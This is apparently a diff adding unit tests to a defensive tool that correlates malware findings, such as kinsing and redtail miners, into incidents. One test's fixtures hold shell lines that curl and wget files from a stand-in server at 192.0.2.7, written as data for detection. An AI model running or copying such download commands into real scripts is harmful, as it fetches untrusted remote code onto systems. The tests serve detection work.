@@ -4,7 +4,8 @@ import { fileOf, processOf } from '../../test/facts.ts'
 import { findingOf } from '../../test/findings.ts'
 import { entity, processId } from '../core/entity.ts'
 import { factsOf } from '../core/facts.ts'
-import { confidenceOf, correlate, verdictOf } from './correlate.ts'
+import { correlate } from './correlate.ts'
+import { confidenceOf, verdictOf } from './verdict.ts'
 
 const miner = processId(7, 1000)
 const none = new Set<never>()
@@ -61,4 +62,41 @@ test("an owner's declared miner is authorised", () => {
   assert.equal(correlate('h', facts, findings, new Set([miner]))[0]?.verdict, 'authorised')
   const more = [...findings, findingOf({ about: [entity('key', 'k')], class: 'access', signal: 'intrusion', confidence: 0.9 })]
   assert.equal(correlate('h', facts, more, new Set([miner]))[0]?.verdict, 'mining')
+})
+
+test('two families at work are two stories; what names neither is told in the stronger', () => {
+  const of = (path: string, family: string | undefined, confidence: number, kind: 'miner' | 'access' = 'miner') =>
+    findingOf({
+      about: [entity('file', path)],
+      class: kind,
+      signal: kind === 'miner' ? 'mining' : 'intrusion',
+      confidence,
+      ...(family !== undefined && { family }),
+    })
+  const findings = [of('/a', 'kinsing', 0.99), of('/b', 'kinsing', 0.6), of('/c', 'redtail', 0.96), of('/d', undefined, 0.7, 'access')]
+  const incidents = correlate('h', factsOf(), findings, none)
+  assert.deepEqual(
+    incidents.map(i => [i.family, i.members]),
+    [
+      ['kinsing', ['file:/a', 'file:/b', 'file:/d']],
+      ['redtail', ['file:/c']],
+    ],
+  )
+})
+
+test("hints that hang on nothing are in nobody's story", () => {
+  const hint = findingOf({ about: [entity('file', '/h')], severity: 'low', class: 'provenance', signal: 'intrusion', confidence: 0.3 })
+  const incidents = correlate('h', facts, [findingOf({ about: [miner], confidence: 0.97 }), hint], none)
+  assert.ok(!incidents.some(i => i.members.includes('file:/h')))
+})
+
+test('scripts and entries that fetch from the same server belong together', () => {
+  const files = [
+    fileOf({ path: '/opt/a.sh', head: 'curl http://192.0.2.7/a' }),
+    fileOf({ path: '/srv/b.sh', head: 'wget -q http://192.0.2.7:8080/b' }),
+  ]
+  const findings = files.map(f =>
+    findingOf({ about: [f.id], class: 'provenance', signal: 'intrusion', confidence: 0.7, severity: 'medium' }),
+  )
+  assert.equal(correlate('h', factsOf({ files }), findings, none).length, 1)
 })
